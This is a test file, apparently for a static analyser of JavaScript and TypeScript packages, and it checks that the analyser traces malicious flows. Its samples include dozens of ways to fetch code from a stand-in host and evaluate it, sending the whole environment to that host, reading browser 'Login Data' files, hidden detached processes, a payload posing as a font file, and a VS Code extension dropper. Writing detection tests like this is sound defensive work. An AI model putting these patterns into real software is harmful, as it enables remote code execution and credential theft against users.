import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { effectsOf, onlyEffect, readFiles } from "./read-program.test-support.ts";

const base64 = (text: string) => Buffer.from(text).toString("base64");
const address = "https://api.example/v1";

describe("what the network answers is followed into evaluation", () => {
  const ways: Readonly<Record<string, string>> = {
    "a promise": `require("axios").get("${address}").then((r) => eval(r.data));`,
    await: `(async () => { const r = await fetch("${address}"); const code = await r.text(); new Function(code)(); })();`,
    "a callback": `require("request")("${address}", (error, response, body) => { eval(body); });`,
    "events of a stream": `require("https").get("${address}", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });`,
    "a property of an XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "${address}"); x.onload = function () { eval(this.responseText); }; x.send();`,
    "a socket": `require("socket.io-client")("${address}").on("run", (code) => eval(code));`,
    "a promise made by hand": `new Promise((done) => require("https").get("${address}", (r) => done(r))).then((r) => eval(r.body));`,
    "a field of a class": `class Client { async load() { this.answer = await fetch("${address}"); } run() { eval(this.answer.body); } } const c = new Client(); c.load(); c.run();`,
    "a function with another name": `const run = eval; const go = run; fetch("${address}").then((r) => (0, go)(r));`,
    "the constructor of a function": `fetch("${address}").then((r) => (async () => {}).constructor(r.body)());`,
    "the constructor of a constructor": `fetch("${address}").then((r) => [].constructor.constructor(r.body)());`,
    "a computed name on the global object": `fetch("${address}").then((r) => globalThis["ev" + "al"](r.body));`,
    Reflect: `fetch("${address}").then((r) => Reflect.construct(Function, [r.body])());`,
    "a timer that takes text": `fetch("${address}").then((r) => setTimeout(r.body, 10));`,
    vm: `fetch("${address}").then((r) => require("vm").runInThisContext(r.body));`,
    "a script of vm that is handed require": `fetch("${address}").then((r) => new (require("vm").Script)(r.body).runInThisContext()(require));`,
    "a script of vm in a context with require": `fetch("${address}").then((r) => new (require("vm").Script)(r.body).runInNewContext({ require }));`,
    "a generator": `(async () => { async function* pages() { for (const n of ["a"]) yield await (await fetch("${address}")).text(); } for await (const page of pages()) eval(page); })();`,
    "a module compiled by hand": `fetch("${address}").then((r) => { const m = new module.constructor(); m._compile(r.body, "x"); });`,
    "a text compiled into this module": `fetch("${address}").then((r) => module._compile(r.body, "x"));`,
    "an event emitter": `const bus = new (require("events"))(); bus.on("ready", (text) => eval(text)); fetch("${address}").then((r) => bus.emit("ready", r.body));`,
    "a class that emits": `class Feed extends require("events").EventEmitter { async pull() { this.emit("data", (await fetch("${address}")).body); } } const f = new Feed(); f.pull(); f.on("data", (d) => eval(d));`,
    "an interceptor of a client": `const client = require("axios").create(); client.interceptors.response.use((r) => eval(r.data)); client.get("${address}");`,
    "a hook of a client": `require("got").extend({ hooks: { afterResponse: [(r) => eval(r.body)] } })("${address}");`,
    "the error handler of a server": `const app = require("express")(); app.get("/", async (q, s, next) => { const r = await fetch("${address}"); next(r.body); }); app.use((error, q, s, next) => { eval(error); });`,
    "an error thrown by a route": `const router = require("express").Router(); router.use((error, q, s, next) => { eval(error.message); }); router.get("/", async () => { const r = await fetch("${address}"); throw new Error(r.body); });`,
    "the failure of an earlier promise": `require("axios").post("${address}").then(() => console.log("done")).catch((error) => eval(error.response.data));`,
    "the constructor of asynchronous functions": `fetch("${address}").then((r) => { const Maker = Object.getPrototypeOf(async function () {}).constructor; new Maker(r.body)(); });`,
    "a package that brings XMLHttpRequest": `const { XMLHttpRequest } = require("xmlhttprequest"); const x = new XMLHttpRequest(); x.open("GET", "${address}"); x.onload = () => eval(x.responseText); x.send();`,
    "steps in an object, one after the other": `const steps = { a: () => fetch("${address}"), b: (r) => r.text(), c: (t) => eval(t) }; (async () => { let v; for (const k of Object.keys(steps)) v = await steps[k](v); })();`,
    "functions put into a row": `const pipe = (...steps) => (x) => steps.reduce((p, f) => p.then(f), Promise.resolve(x)); pipe(fetch, (r) => r.text(), (t) => eval(t))("${address}");`,
    "a name of the global object": `global.load = require; window.run = (t) => self.eval(t); globalThis.load("axios").get("${address}").then((r) => run(r.data));`,
    "a client that takes the verb first": `require("needle")("get", "${address}").then((r) => eval(r.body));`,
    "the input of an interpreter": `const child = require("child_process").spawn(process.execPath); fetch("${address}").then((r) => r.text()).then((t) => { child.stdin.write(t); });`,
    "an option that is the input of an interpreter": `fetch("${address}").then((r) => require("child_process").execFileSync("python3", { input: r.body }));`,
    "a data address that is imported": `fetch("${address}").then((r) => import("data:text/javascript," + encodeURIComponent(r.body)));`,
    "a contract of a chain": `const { ethers } = require("ethers"); const p = new ethers.JsonRpcProvider("${address}"); new ethers.Contract("0x0", [], p).text().then((t) => eval(t));`,
    "an error that nothing catches": `process.on("uncaughtException", (error) => eval(error.message)); fetch("${address}").then((r) => { throw new Error(r.body); });`,
    "a stream that is made by hand": `const { Writable } = require("stream"); require("https").get("${address}", (r) => { let s = ""; r.pipe(new Writable({ write(part) { s += part; }, final() { eval(s); } })); });`,
    "bytes that are filled one by one": `fetch("${address}").then((r) => { const out = Buffer.alloc(9); for (let i = 0; i < 9; i++) out[i] = r.body[i] ^ 7; eval(out.toString()); });`,
    "the constructor of a method": `fetch("${address}").then((r) => [].filter.constructor(r.body)());`,
    "the environment as a store": `fetch("${address}").then((r) => { process.env.CACHE = r.body; eval(process.env.CACHE); });`,
    "the store of a page": `fetch("${address}").then((r) => { localStorage.setItem("a", r.body); eval(localStorage.getItem("a")); });`,
    "a function that is wrapped by another": `const once = require("once"); const run = once((text) => eval(text)); fetch("${address}").then((r) => run(r.body));`,
    "a client nothing is known of": `module.exports = (client) => client.get("${address}").then((r) => eval(r.body));`,
    "a process that is started behind Node.js's back": `fetch("${address}").then((r) => process.binding("spawn_sync").spawn({ file: "node", args: ["-e", r.body] }));`,
    "options of a forked process": `fetch("${address}").then((r) => require("child_process").fork("x", [], { execArgv: ["-e", r.body] }));`,
    "JSON parsed on the way": `fetch("${address}").then((r) => { const { code } = JSON.parse(r.body); eval(code); });`,
  };
  for (const [name, source] of Object.entries(ways)) {
    test(name, async () => {
      const evaluations = await effectsOf("evaluate", source);
      const origin = evaluations.flatMap((effect) => effect.subject.origins).find(({ kind }) => kind === "network");
      assert.deepEqual(origin?.address?.texts, [address]);
    });
  }

  test("the body of an error that a request throws is marked as such", async () => {
    const source = `(async () => { try { await require("axios").get("${address}"); } catch (error) { eval(error.response.data); } })();`;
    const [evaluation] = await effectsOf("evaluate", source);
    assert.deepEqual(
      evaluation?.subject.origins.map(({ kind, part }) => [kind, part]),
      [["network", "error"]],
    );
  });

  test("a field that a constructor's parameter declares is found by its methods", async () => {
    const { effects } = await readFiles({
      "index.ts": `class Client { text(u: string) { return fetch(u).then((r) => r.text()); } }
        class Runner { constructor(private readonly client: Client) {} async run() { eval(await this.client.text("${address}")); } }
        new Runner(new Client()).run();`,
    });
    assert.deepEqual(onlyEffect(effects, "evaluate").subject.origins[0]?.address?.texts, [address]);
  });

  test("enumerations and namespaces of TypeScript", async () => {
    const { effects } = await readFiles({
      "index.ts": `enum Key { A = "${base64(address)}" } namespace Tools { export const run = (text: string) => eval(text); }
        fetch(atob(Key.A)).then((r) => r.text()).then(Tools.run);`,
    });
    assert.deepEqual(onlyEffect(effects, "evaluate").subject.origins[0]?.address?.texts, [address]);
  });

  test("of an address that may have several beginnings one is kept", async () => {
    const source = `const client = require("axios").create({ baseURL: process.env.BASE || "https://api.example" }); client.get("/v1").then((r) => eval(r.data));`;
    const [evaluation] = await effectsOf("evaluate", source);
    assert.deepEqual(evaluation?.subject.origins[0]?.address?.texts, [address]);
  });

  test("a decoder of a package whose text stands in the code", async () => {
    const source = `eval(require("crypto-js").AES.decrypt("U2FsdGVkX18", "key").toString()); eval(require("lz-string").decompressFromBase64("N4IgZg9hDOAuCWA3Apg"));`;
    assert.deepEqual(
      (await effectsOf("evaluate", source)).map(({ subject }) => [
        ...subject.encodings,
        ...subject.origins.map(({ kind }) => kind),
      ]),
      [
        ["encrypted", "decoded-constant"],
        ["base64", "decoded-constant"],
      ],
    );
  });

  test("an address that holds what a function was given can be read", async () => {
    const source = `const join = (parts) => { let r = ""; for (const part of parts) r += part.slice(0) + "/"; return r; }; fetch(join(["https://api.example", "v1", "a", "b"]));`;
    const [request] = await effectsOf("request", source);
    assert.deepEqual(request?.subject.encodings, []);
  });

  test("a module that is loaded by an address is that computer's answer", async () => {
    const [load] = await effectsOf("load", `import(atob("${base64(address)}"));`);
    assert.deepEqual(load?.subject.origins[0]?.address?.encodings, ["base64"]);
  });

  test("a program that is required by a path at which nothing came along is a fact", async () => {
    const { effects } = await readFiles({ "index.js": `require("./cache/start"); require("./config.json");` });
    assert.deepEqual(onlyEffect(effects, "load").subject.texts, ["./cache/start"]);
  });

  test("code that is given the means to load more says so", async () => {
    const evaluations = await effectsOf(
      "evaluate",
      `fetch("${address}").then((r) => { const vm = require("vm"); vm.runInNewContext(r.body, { console }); vm.runInContext(r.body, vm.createContext({ require })); new module.constructor()._compile(r.body, "x"); });`,
    );
    assert.deepEqual(
      evaluations.map(({ via, traits }) => [via, ...traits]),
      [["vm.runInNewContext"], ["vm.runInContext", "given-loader"], ["Module._compile", "given-loader"]],
    );
  });

  test("a method of a connection that a timer is given is no text", async () => {
    const source = `const s = require("ws")("${address}"); setTimeout(s.close, 100); setImmediate(s.open); setTimeout(s.data, 1);`;
    assert.deepEqual(
      (await effectsOf("evaluate", source)).map(({ at }) => at.excerpt),
      ["setTimeout(s.data, 1)"],
    );
  });

  test("headers and cookies are marked as such", async () => {
    const evaluations = await effectsOf(
      "evaluate",
      `fetch("${address}").then((r) => { eval(r.headers.get("x-code")); eval(r.data.cookie); });`,
    );
    assert.deepEqual(
      evaluations.map(({ subject }) => subject.origins[0]?.part),
      ["header", "cookie"],
    );
  });

  test("through files: an address in .env, a request in one, evaluation under an innocent name in another", async () => {
    const { effects } = await readFiles({
      ".env": `PORT=3000\nAUTH_API_KEY="${base64(address)}"\n`,
      "config.js": `require("dotenv").config(); module.exports = { key: process.env.AUTH_API_KEY };`,
      "routes/auth.js": `const axios = require("axios"); const { errorHandler } = require("../middleware/error"); const config = require("../config");
        (async () => { try { const answer = await axios.get(atob(config.key)); errorHandler(answer.data.cookie); } catch { } })();`,
      "middleware/error.js": `const make = (text) => new Function.constructor("require", text); module.exports.errorHandler = (error) => { const handle = make(error); handle(require); };`,
    });
    const evaluation = effects.find(({ kind }) => kind === "evaluate");
    const [origin] = evaluation?.subject.origins ?? [];
    assert.equal(evaluation?.at.path, "middleware/error.js");
    assert.ok(evaluation.traits.includes("given-loader"));
    assert.equal(origin?.place.path, "routes/auth.js");
    assert.deepEqual(
      origin.hops.map(({ path }) => path),
      ["routes/auth.js"],
    );
    assert.deepEqual(origin.address?.encodings, ["base64"]);
    assert.deepEqual(
      origin.address.origins.map(({ kind, detail, place }) => [kind, detail, place.path, place.line]),
      [["environment", "AUTH_API_KEY", ".env", 2]],
    );
  });

  test("through re-exports, a default import with another name and a class method", async () => {
    const { effects } = await readFiles({
      "index.ts": `import Loader, { run as execute } from "./lib"; execute(new Loader().load());`,
      "lib/index.ts": `export { default } from "./loader"; export * from "./run";`,
      "lib/loader.ts": `export default class Remote { load() { return fetch("${address}").then((r) => r.text()); } }`,
      "lib/run.ts": `export function run(code: string): void { (globalThis as any).eval(code); }`,
    });
    const [origin] = onlyEffect(effects, "evaluate").subject.origins;
    assert.equal(origin?.place.path, "lib/loader.ts");
  });
});

test("imports whose failure a try catches are marked", async () => {
  const { imports } = await readFiles({
    "index.js": `require("a"); try { require("b"); } catch {} const c = require("c");`,
    "main.py": "import d\ntry:\n    import e\nexcept ImportError:\n    pass\n",
  });
  assert.deepEqual(
    imports.filter(({ guarded }) => guarded).map(({ specifier }) => specifier),
    ["b", "e"],
  );
});

describe("other flows", () => {
  test("the whole environment is sent", async () => {
    const [request] = await effectsOf("request", `require("axios").post("${address}", { ...process.env, at: 1 });`);
    assert.deepEqual(
      request?.payload?.origins.map(({ kind }) => kind),
      ["whole-environment"],
    );
  });

  test("the environment given to a child process is not sent anywhere", async () => {
    const { effects } = await readFiles({
      "index.js": `require("child_process").spawn("node", ["a.js"], { env: { ...process.env, A: "1" } });`,
    });
    assert.deepEqual(
      effects.map(({ kind }) => kind),
      ["run"],
    );
  });

  test("a downloaded file is written", async () => {
    const source = `const fs = require("fs"); require("https").get("${address}", (r) => { r.pipe(fs.createWriteStream("/tmp/tool")); });`;
    const { effects } = await readFiles({ "index.js": source });
    const write = effects.find(({ kind, payload }) => kind === "write" && payload !== undefined);
    assert.deepEqual(
      write?.payload?.origins.map(({ kind }) => kind),
      ["network"],
    );
  });

  test("a hidden, detached process", async () => {
    const [run] = await effectsOf(
      "run",
      `require("child_process").spawn("node", ["-e", code], { detached: true, stdio: "ignore", windowsHide: true }).unref();`,
    );
    assert.deepEqual(run?.traits, ["detached", "hidden-window", "silenced", "inline-code"]);
  });

  test("a program that is started from the arrival is named", async () => {
    const { effects } = await readFiles({
      "server/start.js": `const path = require("path"); require("child_process").fork(path.join(__dirname, "../public/fonts/icons.woff2"));`,
      "public/fonts/icons.woff2": "console.log(1)",
    });
    assert.equal(onlyEffect(effects, "run").target, "public/fonts/icons.woff2");
  });

  test("a file of the arrival that is decoded and evaluated is read as code", async () => {
    const { effects } = await readFiles({
      "index.js": `const fs = require("fs"); eval(Buffer.from(fs.readFileSync(__dirname + "/data.txt", "utf8"), "base64").toString());`,
      "data.txt": base64(`require("child_process").exec("id")`),
    });
    const run = onlyEffect(effects, "run");
    assert.equal(run.layer, 1);
    assert.deepEqual(run.subject.texts, ["id"]);
  });

  test("paths built from lists name every place they may mean", async () => {
    const [read] = await effectsOf(
      "read",
      `const path = require("path"); for (const b of ["Chrome", "Brave"]) require("fs").readFileSync(path.join(require("os").homedir(), b, "Login Data"));`,
    );
    assert.deepEqual(read?.subject.texts, ["~/Chrome/Login Data", "~/Brave/Login Data"]);
  });

  test("what is only called by others is dormant, what a file does when loaded is not", async () => {
    const { effects } = await readFiles({ "index.js": `eval(a); module.exports.later = () => eval(b);` });
    assert.deepEqual(
      effects.map(({ time }) => time),
      ["load", "dormant"],
    );
  });

  test("a program that is fetched into a folder of the editor's, when an extension starts", async () => {
    const source = `const vscode = require("vscode"); const { join } = require("path");
      async function get(context) { const file = join(context.globalStorageUri.fsPath, process.platform === "win32" ? "a.exe" : "tool");
        require("fs").writeFileSync(file, (await fetch("${address}")).body); require("child_process").execFile(file); }
      module.exports = { activate(context) { get(context); }, other() { fetch("https://b.example"); } };`;
    const { effects } = await readFiles({ "extension.js": source });
    const run = effects.find(({ kind }) => kind === "run");
    const write = effects.find(({ kind }) => kind === "write");
    assert.deepEqual(run?.subject.texts, write?.subject.texts);
    assert.equal(run?.time, "load");
    assert.deepEqual(
      effects.filter(({ kind }) => kind === "request").map(({ time }) => time),
      ["load", "dormant"],
    );
  });
});

describe("texts that only look like code that acts", () => {
  const quiet: Readonly<Record<string, string>> = {
    "names in texts": `const rules = ["eval(atob(x))", "child_process.exec('curl x | sh')"]; module.exports = rules;`,
    "names in comments": `// eval(fetch("https://api.example"))\n/* require("child_process").exec("id") */ module.exports = 1;`,
    "own functions with telling names": `function exec(list) { return list.map((x) => x.eval); } module.exports = exec;`,
    "a method of a database": `db.collection("users").exec((error, users) => users);`,
    "a regular expression": `module.exports = (text) => /eval/.exec(text);`,
  };
  for (const [name, source] of Object.entries(quiet)) {
    test(name, async () => {
      const { effects } = await readFiles({ "index.js": source });
      assert.deepEqual(effects, []);
    });
  }
});
